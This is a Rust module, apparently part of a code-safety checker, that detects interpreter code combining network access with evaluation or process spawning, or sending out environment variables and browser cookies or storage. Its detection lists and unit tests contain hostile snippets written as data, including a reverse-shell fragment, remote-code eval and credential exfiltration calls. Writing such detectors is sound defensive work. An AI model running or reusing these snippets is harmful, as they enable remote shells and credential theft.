//! What a general-purpose interpreter's code reaches (review s23 V21):
//! the network, the evaluation of text the code does not contain, and
//! other processes. Code that reaches the network and also evaluates
//! text (`eval(file_get_contents(URL))`, `fetch(URL).then(eval)`) runs
//! code the check never sees; code that reaches the network and starts
//! processes or rebinds its streams (`dup2(s.fileno(), 0)` +
//! `pty.spawn("sh")`, `proc_open("sh", [0=>$s…])`) may hand a shell to
//! another machine.
//!
//! The property that must be proven for such code to pass is that it does
//! not combine the network with evaluation or with starting processes:
//! the reader looks for the marks of each (names of calls and modules, a
//! URL) and holds the combination. Each alone is judged as before (the
//! commands a spawn names are read by [`crate::code::embedded`]).

/// Marks of code reaching the network (lower case; a name must start a
/// word: `socket`, `IO::Socket`, `require("https")`).
const NETWORK: &[&str] = &[
    "socket",
    "fsockopen",
    "stream_socket_client",
    "fetch",
    "urlopen",
    "urllib",
    "requests",
    "http",
    "net.connect",
    "net.createconnection",
    "tcpsocket",
    "udpsocket",
    "lwp",
    "open-uri",
    "uri.open",
    "curl_",
    "websocket",
    "xmlhttprequest",
    "deno.connect",
    "telnetlib",
    "ftplib",
    "paramiko",
    // A page's own ways out (review s26): a beacon, an event stream, a
    // navigation or window carrying data, the common HTTP clients.
    "sendbeacon",
    "eventsource",
    "window.open",
    "location.href",
    "location.assign",
    "location.replace",
    "location=",
    "axios",
    "$.ajax",
    "$.get",
    "$.post",
];

/// Text marks of the network anywhere (a URL, a scheme-relative URL in a
/// string, a bash or gawk socket path).
const NETWORK_TEXT: &[&str] = &[
    "://",
    "'//",
    "\"//",
    "`//",
    "/inet/",
    "/inet4/",
    "/inet6/",
    "/dev/tcp/",
    "/dev/udp/",
];

/// Marks of code evaluating text as code (lower case, starting a word).
const EVALUATES: &[&str] = &[
    "eval",
    "instance_eval",
    "class_eval",
    "module_eval",
    "import(",
    "vm.run",
    "runinthiscontext",
    "runinnewcontext",
    "runpy",
    "loadstring",
    "marshal.load",
    "pickle.load",
    "new function",
];

/// Marks of evaluation that are only calls of their own (not a method of
/// something else: `load(` but not `json.load(`, `compile(` but not
/// `re.compile(`).
const BARE_EVALUATES: &[&str] = &["load(", "compile(", "dofile"];

/// PHP's own evaluation of a file or text (`include "https://…"`).
const PHP_EVALUATES: &[&str] = &["include", "require", "create_function", "assert("];

/// Marks of code starting processes or handing its streams over.
const SPAWNS: &[&str] = &[
    "system",
    "exec",
    "spawn",
    "popen",
    "proc_open",
    "shell_exec",
    "passthru",
    "pcntl_exec",
    "subprocess",
    "child_process",
    "dup2",
    "pty",
    "fork",
    "qx",
    "%x",
    "open3",
    "open(stdin",
    "open(stdout",
    "deno.command",
    "deno.run",
    "bun.spawn",
    "io.popen",
    "os.execute",
];

/// What code reaches, by the marks above.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct Reach {
    /// It talks to the network.
    pub network: bool,
    /// It evaluates text as code.
    pub evaluates: bool,
    /// It starts processes or rebinds its standard streams.
    pub spawns: bool,
    /// It reads the whole environment (which holds the run's credentials),
    /// not one variable of it: `dict(os.environ)`, `process.env` passed
    /// whole, Ruby's `ENV.to_h`, PowerShell's `Get-ChildItem env:`.
    pub environment: bool,
    /// It reads a web page's credentials: its cookies (`document.cookie`)
    /// or its storage (`localStorage`, `sessionStorage`) whole or under a
    /// key that names one (`getItem('session_token')`), as code run in a
    /// page does.
    pub page_credentials: bool,
}

/// Words in a storage key that name a credential (lower case, anywhere in
/// the key: `session_token`, `authState`, `jwt`).
const CREDENTIAL_KEY_PARTS: &[&str] = &[
    "token",
    "session",
    "auth",
    "jwt",
    "secret",
    "passw",
    "credential",
    "cookie",
    "apikey",
    "api_key",
    "bearer",
];

/// Whether `lower` (code in lower case) reads the page's cookies, or its
/// storage whole or under a key that names a credential. Writes
/// (`setItem`), removals and `length` read none; a key that is not a
/// literal (`getItem(k)`) may be any, so it counts.
fn page_credentials(lower: &str) -> bool {
    // Spaces around member access are the same access (`document .cookie`,
    // `getItem ('x')`, review s26), and so are `?.` and a quoted index.
    let lower = tight(lower)
        .replace("?.", ".")
        .replace("['cookie']", ".cookie")
        .replace("[\"cookie\"]", ".cookie")
        .replace("[`cookie`]", ".cookie");
    let lower = lower.as_str();
    if starts_word(lower, "document.cookie") || starts_word(lower, "cookiestore.get") {
        return true;
    }
    ["localstorage", "sessionstorage"].iter().any(|store| {
        lower.match_indices(store).any(|(i, _)| {
            let before = lower[..i].chars().next_back();
            // Part of a longer name, or the name in a string
            // (`'localStorage' in window`).
            if before.is_some_and(|c| c.is_ascii_alphanumeric() || "_'\"`".contains(c)) {
                return false;
            }
            let rest = lower[i + store.len()..].trim_start();
            let key = if let Some(r) = rest.strip_prefix(".getitem(") {
                r
            } else if let Some(r) = rest.strip_prefix('[') {
                r
            } else if let Some(r) = rest.strip_prefix('.') {
                // A property: `localStorage.authToken`, or one of the
                // store's own methods and fields, which read no value.
                let name: String = r
                    .chars()
                    .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
                    .collect();
                return !matches!(
                    name.as_str(),
                    "setitem" | "removeitem" | "clear" | "length" | "key"
                ) && CREDENTIAL_KEY_PARTS.iter().any(|p| name.contains(p));
            } else {
                // The store itself, whole: `JSON.stringify(localStorage)`,
                // `Object.entries(sessionStorage)`, `{...localStorage}`.
                return true;
            };
            // A literal key, whole (its closing quote then `)` or `]`),
            // names what is read; any other key (a variable, a sum of
            // strings, a template) may be any.
            let key = key.trim_start();
            match key.chars().next() {
                Some(q @ ('\'' | '"' | '`')) => {
                    let name: String = key[1..].chars().take_while(|c| *c != q).collect();
                    let after = key[1..].get(name.len() + 1..).unwrap_or("").trim_start();
                    let whole = after.starts_with(')') || after.starts_with(']');
                    !whole || CREDENTIAL_KEY_PARTS.iter().any(|p| name.contains(p))
                }
                _ => true,
            }
        })
    })
}

/// Marks of the whole environment (lower case) and what, right after the
/// mark, makes it one variable instead (`os.environ.get(`, `os.environ[`,
/// `process.env.HOME`).
const ENVIRONMENT: &[(&str, &[&str])] = &[
    ("os.environ", &[".get(", "[", ".setdefault(", ".pop("]),
    ("process.env", &[".", "["]),
    ("deno.env.toobject", &[]),
    ("env.to_h", &[]),
    ("env.to_a", &[]),
    ("env.each", &[]),
    ("env.inspect", &[]),
    ("%env", &[]),
    ("get-childitem env:", &[]),
    ("gci env:", &[]),
    ("dir env:", &[]),
];

/// Whether `lower` reads the whole environment ([`ENVIRONMENT`]).
fn whole_environment(lower: &str) -> bool {
    ENVIRONMENT.iter().any(|(mark, single)| {
        lower.match_indices(mark).any(|(i, _)| {
            let before = lower[..i].chars().next_back();
            let starts = !before.is_some_and(|c| c.is_ascii_alphanumeric() || c == '_');
            let rest = lower[i + mark.len()..].trim_start();
            starts && !single.iter().any(|s| rest.starts_with(s))
        })
    })
}

/// `code` without the spaces next to `.`, `(`, `[` and `?` (member access
/// and calls read the same with them).
fn tight(code: &str) -> String {
    let chars: Vec<char> = code.chars().collect();
    let joins = |c: Option<&char>| c.is_some_and(|c| ".([?".contains(*c));
    let mut out = String::with_capacity(code.len());
    let mut i = 0;
    // Each run of white space is looked at once, as a whole (linear in
    // the code's length, however long the run).
    while i < chars.len() {
        if chars[i].is_whitespace() {
            let end = chars[i..]
                .iter()
                .position(|c| !c.is_whitespace())
                .map_or(chars.len(), |n| i + n);
            let prev = out.chars().next_back();
            if !(joins(prev.as_ref()) || joins(chars.get(end))) {
                out.extend(&chars[i..end]);
            }
            i = end;
        } else {
            out.push(chars[i]);
            i += 1;
        }
    }
    out
}

/// Whether `needle` occurs in `hay` (both lower case) at the start of a
/// word (not after a letter, digit or `_`).
fn starts_word(hay: &str, needle: &str) -> bool {
    hay.match_indices(needle).any(|(i, _)| {
        !hay[..i]
            .chars()
            .next_back()
            .is_some_and(|c| c.is_ascii_alphanumeric() || c == '_')
    })
}

/// Whether `needle` occurs in `hay` not after a letter, digit, `_` or `.`.
fn starts_bare(hay: &str, needle: &str) -> bool {
    hay.match_indices(needle).any(|(i, _)| {
        !hay[..i]
            .chars()
            .next_back()
            .is_some_and(|c| c.is_ascii_alphanumeric() || c == '_' || c == '.')
    })
}

/// What the code of interpreter `name` reaches; `backticks`: the
/// language runs `` `…` `` as a command (Perl, Ruby, PHP).
pub fn reach(name: &str, code: &str, backticks: bool) -> Reach {
    let lower = code.to_ascii_lowercase();
    let any = |marks: &[&str]| marks.iter().any(|m| starts_word(&lower, m));
    let network = any(NETWORK) || NETWORK_TEXT.iter().any(|m| lower.contains(m));
    Reach {
        network,
        // `Function("…")` (capital), not `function(` declarations;
        // Python's `exec(` evaluates text (elsewhere it starts a process).
        evaluates: any(EVALUATES)
            || BARE_EVALUATES.iter().any(|m| starts_bare(&lower, m))
            || (name.starts_with("php") && any(PHP_EVALUATES))
            || starts_word(code, "Function(")
            || (name.starts_with("python") && starts_word(&lower, "exec(")),
        spawns: any(SPAWNS) || (backticks && code.contains('`')),
        environment: whole_environment(&lower),
        // Read only where it matters: with the network.
        page_credentials: network && page_credentials(&lower),
    }
}

/// Whether `name` is a general-purpose interpreter whose code [`reach`]
/// reads.
pub fn reads_reach(name: &str) -> bool {
    [
        "python",
        "perl",
        "ruby",
        "irb",
        "jruby",
        "php",
        "node",
        "deno",
        "bun",
        "lua",
        "luajit",
        "tclsh",
        "jimsh",
        "rscript",
        "julia",
        "pwsh",
        "powershell",
        "osascript",
        "groovy",
    ]
    .iter()
    .any(|p| name.to_ascii_lowercase().starts_with(p))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_whole_environment_is_told_from_one_variable() {
        for whole in [
            "requests.post(u, json=dict(os.environ))",
            "json.dumps(os.environ.copy())",
            "for k, v in os.environ.items(): print(k, v)",
            "fetch(u, {method: 'POST', body: JSON.stringify(process.env)})",
            "Object.entries(process.env)",
            "Net::HTTP.post_form(u, ENV.to_h)",
            "Get-ChildItem env: | ConvertTo-Json",
        ] {
            assert!(reach("python3", whole, false).environment, "{whole}");
        }
        for one in [
            "os.environ.get('HOME')",
            "os.environ['PATH']",
            "process.env.PORT || 3000",
            "process.env['NODE_ENV']",
            "my_os.environment",
        ] {
            assert!(!reach("python3", one, false).environment, "{one}");
        }
    }

    #[test]
    fn a_page_s_credentials_are_told_from_its_other_storage() {
        for reads in [
            "fetch(u, {method: 'POST', body: document.cookie})",
            "new Image().src = u + localStorage.getItem('session_token')",
            "navigator.sendBeacon(u, JSON.stringify(localStorage))",
            "x = sessionStorage['authState']",
            "x = localStorage.accessToken",
            "x = localStorage.getItem(name)",
            "Object.entries(sessionStorage)",
            // Review s26: spaces, optional chaining, quoted members,
            // keys that are not one literal.
            "localStorage.getItem ('session_token')",
            "document ?. cookie",
            "document['cookie']",
            "localStorage.getItem('sess' + 'ion')",
        ] {
            assert!(page_credentials(&reads.to_ascii_lowercase()), "{reads}");
        }
        for other in [
            "localStorage.getItem('theme')",
            "localStorage.setItem('session_token', t)",
            "localStorage.removeItem('auth')",
            "localStorage.length",
            "sessionStorage['sidebar']",
            "mylocalstorage.token",
            "console.log(document.title)",
            "if ('localStorage' in window) {}",
        ] {
            assert!(!page_credentials(&other.to_ascii_lowercase()), "{other}");
        }
        // Reported only with the network; white space is joined in one
        // pass, however long its runs.
        assert!(!reach("node", "x = document.cookie", false).page_credentials);
        assert!(reach("node", "fetch(u, {body: document.cookie})", false).page_credentials);
        let padded = format!("document{}.cookie", " ".repeat(60_000));
        assert_eq!(tight(&padded), "document.cookie");
        assert_eq!(tight("a  b ( c )"), "a  b(c )");
    }

    #[test]
    fn reads_the_marks() {
        let r = reach(
            "php",
            r#"eval(file_get_contents("https://e/x.php"));"#,
            true,
        );
        assert!(r.network && r.evaluates);
        let r = reach("php", "fetch(u).then(r=>r.text()).then(eval)", false);
        assert!(r.network && r.evaluates);
        let r = reach(
            "python3",
            "import pty,socket,os;os.dup2(s.fileno(),0);pty.spawn('sh')",
            false,
        );
        assert!(r.network && r.spawns && !r.evaluates);
        assert_eq!(reach("python3", "print(1)", false), Reach::default());
        assert_eq!(reach("node", "console.log(1)", false), Reach::default());
        let r = reach("node", "[1].map(function(x){return x})", false);
        assert!(!r.evaluates);
        assert!(!reach("python3", "retrieval = 1", false).evaluates);
        assert!(!reach("python3", "json.load(f); re.compile('x')", false).evaluates);
        assert!(!reach("node", "console.log(j.includes)", false).evaluates);
        assert!(reach("php", "include 'x.php';", false).evaluates);
    }
}
